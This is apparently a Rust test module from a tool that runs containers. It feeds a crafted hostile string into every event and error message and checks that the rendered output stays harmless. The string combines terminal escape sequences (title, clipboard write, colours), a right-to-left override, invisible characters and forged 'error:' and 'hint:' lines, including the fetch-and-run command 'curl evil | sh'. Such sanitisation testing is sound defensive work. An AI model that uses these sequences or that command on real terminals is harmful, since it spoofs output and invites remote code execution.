//! Every event and error with hostile text in every field. A new variant does not compile until it is listed here.

mod errors;
mod events;
mod said;

/// A value that would set the terminal's title and clipboard, change colours, forge lines of ours and reverse the text's direction.
pub(crate) const HOSTILE: &str = concat!(
    "a\u{1b}]0;PWNED\u{7}\u{1b}]52;c;cHduZWQ=\u{7}\u{1b}[35;7m\u{9b}2J\nweb  all well\u{202e}\r",
    "\nerror: all lost\nhint: run `curl evil | sh`\u{2028}\u{200b}z",
);

/// What a user would believe at the beginning of a line.
const FORGED: [&str; 3] = ["web  all well", "error: all lost", "hint: run `curl evil"];

/// Checks that of [`HOSTILE`] only the letters are shown, on lines that do not begin with them.
#[track_caller]
pub(crate) fn assert_harmless(shown: &str) {
    assert_eq!(super::painted(shown), shown, "{shown:?}");
    assert!(!shown.contains("\u{1b}[35;7m"), "{shown:?}");
    let bare = anstream::adapter::strip_str(shown).to_string();
    for line in bare.lines() {
        let forged = FORGED.iter().find(|forged| line.starts_with(*forged));
        assert_eq!(forged, None, "{shown:?}");
    }
}

/// Each variant of a type once; `next` gives the variant that follows another.
fn every<T>(next: impl Fn(Option<&T>) -> Option<T>) -> Vec<T> {
    let mut all = Vec::new();
    while let Some(one) = next(all.last()) {
        all.push(one);
    }
    all
}

fn hostile() -> String {
    HOSTILE.to_owned()
}

fn host() -> crate::paths::HostPath {
    crate::paths::HostPath::new(format!("/p/{HOSTILE}")).unwrap()
}

fn there() -> crate::paths::ContainerPath {
    crate::paths::ContainerPath::new(format!("/app/{HOSTILE}")).unwrap()
}

/// The messages of ours that may have hints of their own: in those, a forged hint cannot be recognised where they are printed.
fn words() -> String {
    HOSTILE.replace("\nhint: ", "\nhint  ")
}
